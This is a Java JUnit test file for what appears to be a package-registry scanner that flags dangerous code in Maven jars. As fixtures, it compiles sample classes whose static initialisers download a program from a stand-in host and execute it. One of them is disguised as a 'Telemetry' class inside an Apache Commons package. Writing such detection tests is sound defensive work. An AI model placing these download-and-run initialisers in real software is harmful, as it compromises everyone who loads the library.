package dev.portcullis.registry.maven;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.inspect.Finding;
import dev.portcullis.inspect.Inspection;
import dev.portcullis.inspect.Inspector;
import dev.portcullis.inspect.Limits;
import dev.portcullis.inspect.Severity;
import dev.portcullis.testing.Archives;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import javax.tools.ToolProvider;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Jars as the inspector reads them for Maven: class files compiled here by the JDK's own compiler
 * (a static initialiser that downloads and runs a program, one that builds a table), and the real
 * jars of the local Maven repository, which must raise nothing high.
 */
class MavenInspectionTest {

    private static final MavenFormat FORMAT = new MavenFormat(new MavenEcosystem());

    @TempDir
    Path dir;

    @Test
    void aStaticInitialiserThatDownloadsAndRunsIsCriticalAndABenignOneIsQuiet() throws Exception {
        Map<String, byte[]> classes =
                compile(dir, Map.of("org/example/Loader.java", """
                package org.example;
                public class Loader {
                    static { fetch(); }
                    private static void fetch() {
                        try {
                            java.io.InputStream in = new java.net.URL("https://198.51.100.9/x").openStream();
                            java.nio.file.Files.copy(in, java.nio.file.Path.of("/tmp/x"));
                            new ProcessBuilder("/tmp/x").start();
                        } catch (Exception e) { }
                    }
                }
                """, "org/example/Table.java", """
                package org.example;
                public class Table {
                    static final java.util.Map<String, Integer> CODES = new java.util.HashMap<>();
                    static { CODES.put("a", 1); System.getProperty("x"); }
                    public static void run() throws Exception { new ProcessBuilder("ls").start(); }
                }
                """));
        List<Archives.Entry> entries = new ArrayList<>();
        classes.forEach((name, bytes) -> entries.add(Archives.Entry.file(name, bytes)));
        Inspection inspection = inspect("demo-1.0.jar", Archives.zip(entries));

        List<Finding> found = inspection.findings().stream()
                .filter(f -> f.rule().equals(ClassCode.RULE))
                .toList();
        assertThat(found).hasSize(1);
        assertThat(found.getFirst().severity()).isEqualTo(Severity.CRITICAL);
        assertThat(found.getFirst().path()).isEqualTo("org/example/Loader.class");
        assertThat(found.getFirst().message())
                .contains("process (java.lang.ProcessBuilder.<init>, java.lang.ProcessBuilder.start)")
                .contains("network (java.net.URL.openStream)");
        assertThat(inspection.findings())
                .as("a process started by an ordinary method is no static initialiser's")
                .noneMatch(f -> "org/example/Table.class".equals(f.path()) && f.severity() == Severity.HIGH);
    }

    /** The downloader of the first test, as an attacker would add it to a real library. */
    static final String LOADER = """
            package org.apache.commons.compress;
            public final class Telemetry {
                static { fetch(); }
                private static void fetch() {
                    try {
                        java.io.InputStream in = new java.net.URL("https://198.51.100.9/agent").openStream();
                        java.nio.file.Path bin = java.nio.file.Files.createTempFile("t", "");
                        java.nio.file.Files.copy(in, bin, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
                        Runtime.getRuntime().exec(new String[] {"sh", bin.toString()});
                    } catch (Exception e) { }
                }
            }
            """;

    @Test
    void aClassFileThatIsNoClassFileIsAFinding() {
        Inspection inspection =
                inspect("demo-1.0.jar", Archives.zip(List.of(Archives.Entry.file("org/example/A.class", new byte[] {
                    (byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 65, 0, 9
                }))));
        assertThat(inspection.findings())
                .anyMatch(f -> f.rule().equals(ClassCode.RULE) && f.severity() == Severity.MEDIUM);
    }

    /** The local repository's jars (this build's own dependencies and plugins): real code, nothing high. */
    @Test
    void realJarsFromMavenCentralRaiseNothingHigh() throws IOException {
        Path repository = Path.of(System.getProperty("user.home"), ".m2", "repository");
        List<Path> jars;
        try (Stream<Path> all = Files.walk(repository)) {
            jars = all.filter(p -> p.toString().endsWith(".jar")
                            && !p.toString().endsWith("-sources.jar")
                            && !p.toString().contains("/test/portcullis/"))
                    .sorted()
                    .toList();
        }
        assertThat(jars)
                .as("the build's own dependencies and plugins are in the local repository: the 200 real artifacts"
                        + " issue 21 asks for, at least")
                .hasSizeGreaterThanOrEqualTo(200);
        List<String> high = new ArrayList<>();
        for (Path jar : jars) {
            String name = jar.getFileName().toString();
            Inspection inspection = new Inspector(Limits.DEFAULT, Clock.systemUTC()).inspect(jar, name, FORMAT);
            inspection.findings().stream()
                    .filter(f -> f.severity().compareTo(Severity.HIGH) >= 0)
                    .forEach(f -> high.add(name + ": " + f.rule() + " " + f.path() + ": " + f.message()));
        }
        assertThat(high).as("%d real jars", jars.size()).isEmpty();
    }

    private Inspection inspect(String filename, byte[] bytes) {
        return new Inspector(Limits.DEFAULT, Clock.systemUTC())
                .inspect(Archives.write(dir, filename, bytes), filename, FORMAT);
    }

    /** Compiles {@code sources} (path to text) with the JDK's compiler; the class files by path. */
    static Map<String, byte[]> compile(Path dir, Map<String, String> sources) throws IOException {
        Path src = dir.resolve("src");
        Path out = dir.resolve("classes");
        List<String> args = new ArrayList<>(List.of("-d", out.toString(), "--release", "17", "-nowarn"));
        for (var e : sources.entrySet()) {
            Path file = src.resolve(e.getKey());
            Files.createDirectories(file.getParent());
            Files.writeString(file, e.getValue(), StandardCharsets.UTF_8);
            args.add(file.toString());
        }
        int status = ToolProvider.getSystemJavaCompiler().run(null, null, null, args.toArray(String[]::new));
        assertThat(status).isZero();
        Map<String, byte[]> classes = new TreeMap<>();
        try (Stream<Path> all = Files.walk(out)) {
            for (Path p : all.filter(Files::isRegularFile).toList()) {
                classes.put(out.relativize(p).toString(), Files.readAllBytes(p));
            }
        }
        return classes;
    }
}
